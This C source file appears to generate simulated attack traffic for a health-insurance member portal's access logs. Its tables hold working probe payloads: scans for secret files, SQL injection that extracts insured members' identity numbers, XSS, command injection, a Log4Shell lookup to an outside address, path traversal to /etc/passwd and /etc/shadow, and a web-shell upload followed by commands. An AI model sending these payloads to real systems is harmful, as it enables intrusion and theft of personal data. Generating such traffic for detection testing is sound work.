/* Owns the table of probes; see sim_probes.h. Classics of any access log, written for a portal
 * whose search takes a member number. */
#include "sim_probes.h"

#include <stdio.h>

/* A number is the group, then the place in it. */
enum { GROUP = 1000 };

static const char *const folders[] = {
    "/",        "/admin/",   "/old/",  "/backup/", "/api/", "/portail/", "/test/",
    "/config/", "/archive/", "/site/", "/www/",    "/tmp/", "/dev/",     "/sauvegarde/",
};
static const char *const files[] = {
    ".env",     ".git/HEAD",    ".svn/entries",    "dump.sql",          "backup.zip",
    "site.bak", "config.php~",  "web.config.old",  ".htpasswd",         "id_rsa",
    "db.sql",   "wp-login.php", "backup.tar.gz",   ".DS_Store",         "phpinfo.php",
    "info.php", "adminer.php",  "WEB-INF/web.xml", "actuator/heapdump", "swagger-ui.html",
};

static const char *const injections[] = {
    "1%27%20OR%20%271%27=%271",
    "1%27%20ORDER%20BY%20$K--%20-",
    "1%27%20UNION%20SELECT%20NULL,NULL,version()--%20-",
    "1%27%20UNION%20ALL%20SELECT%20nir,nom,prenom%20FROM%20assures%20LIMIT%20$K,50--%20-",
    "1%27%20AND%20SLEEP($K)--%20-",
    "1%27;WAITFOR%20DELAY%20%270:0:$K%27--",
    "1%20AND%20(SELECT%20$K%20FROM%20PG_SLEEP(5))",
    "1%27%20AND%20EXTRACTVALUE($K,CONCAT(0x7e,user()))--%20-",
    "%3Cscript%3Ealert($K)%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert($K)%3E",
    "1;cat%20/etc/passwd",
    "$(id)",
    "%24%7Bjndi:ldap://198.51.100.$K/a%7D",
    "%7B%7B7*$K%7D%7D",
};

static const char *const traversals[] = {
    "/static/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc/passwd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "/static/..%252f..%252f..%252fetc%252fpasswd",
    "/static/..%5c..%5c..%5cwindows%5cwin.ini",
    "/api/v1/exports/paiements?format=../../../../WEB-INF/web.xml",
    "/static/....//....//....//etc/hosts",
    "/static/..%c0%af..%c0%afetc/passwd",
};

static const char *const shells[] = {
    "/static/img/logo.jsp?cmd=id",
    "/static/img/logo.jsp?cmd=uname%20-a",
    "/static/img/logo.jsp?cmd=cat%20/etc/passwd",
    "/static/img/logo.jsp?cmd=ls%20-la%20/srv",
};

enum {
    FOLDERS = sizeof folders / sizeof folders[0],
    FILES = sizeof files / sizeof files[0],
    INJECTIONS = sizeof injections / sizeof injections[0],
    TRAVERSALS = sizeof traversals / sizeof traversals[0],
    SHELLS = sizeof shells / sizeof shells[0],
    ROUNDS = 12 /* values of $K */
};

uint32_t probe_pick(enum probe_group group, unsigned k)
{
    static const unsigned sizes[] = {
        [PROBE_FILES] = FOLDERS * FILES, [PROBE_INJECTION] = INJECTIONS * ROUNDS,
        [PROBE_TRAVERSAL] = TRAVERSALS,  [PROBE_UPLOAD] = 1,
        [PROBE_SHELL] = SHELLS,
    };
    return (uint32_t)group * GROUP + k % sizes[group];
}

const char *probe_method(uint32_t number)
{
    return number / GROUP == PROBE_UPLOAD ? "PUT" : "GET";
}

/* $K becomes a number. */
static void write_injection(unsigned k, char out[PROBE_SIZE])
{
    char value[PROBE_SIZE];
    size_t n = 0;
    for (const char *p = injections[k % INJECTIONS]; *p != '\0' && n < sizeof value - 4; p++) {
        if (p[0] == '$' && p[1] == 'K') {
            n += (size_t)snprintf(value + n, sizeof value - n, "%u", 1 + k / INJECTIONS);
            p++;
        } else {
            value[n++] = *p;
        }
    }
    value[n] = '\0';
    snprintf(out, PROBE_SIZE, "/api/v1/beneficiaires?adherent=%.200s&amc=75000012", value);
}

void probe_write(uint32_t number, char out[PROBE_SIZE])
{
    unsigned k = number % GROUP;
    switch (number / GROUP) {
    case PROBE_FILES:
        snprintf(out, PROBE_SIZE, "%s%s", folders[k / FILES], files[k % FILES]);
        break;
    case PROBE_INJECTION: write_injection(k, out); break;
    case PROBE_TRAVERSAL: snprintf(out, PROBE_SIZE, "%s", traversals[k]); break;
    case PROBE_UPLOAD: snprintf(out, PROBE_SIZE, "/static/img/logo.jsp"); break;
    default: snprintf(out, PROBE_SIZE, "%s", shells[k]); break;
    }
}
